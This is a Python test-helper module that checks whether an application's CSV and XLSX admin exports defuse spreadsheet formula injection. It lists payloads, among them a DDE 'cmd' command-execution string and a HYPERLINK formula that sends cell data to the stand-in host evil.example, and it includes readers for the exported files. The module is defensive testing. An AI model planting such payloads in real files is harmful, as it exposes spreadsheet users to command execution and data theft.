"""Reading the spreadsheets the admin exports, and the texts that must come out inert."""

import csv
import io

from openpyxl import load_workbook

# Text a spreadsheet would run as a formula, each as a customer or an editor could type it.
FORMULA_PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?d="&A2,"Open")',
    " =1+1",
]


def neutralised(text: str) -> str:
    return "'" + text


def read_from_xlsx(text: str) -> str:
    """``text`` as an XLSX gives it back: XML reads a carriage return as a line feed."""
    return text.replace("\r", "\n")


def response_bytes(response) -> bytes:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def csv_rows(response) -> list[list[str]]:
    """The rows of a CSV download, heading first."""
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(response_bytes(response).decode())))


def xlsx_rows(response) -> list[tuple]:
    """The rows of an XLSX download's first sheet as typed values, heading first."""
    assert response.status_code == 200, response.status_code
    workbook = load_workbook(io.BytesIO(response_bytes(response)))
    return list(workbook.active.iter_rows(values_only=True))


def export_rows(response, export_format: str) -> list:
    return csv_rows(response) if export_format == "csv" else xlsx_rows(response)
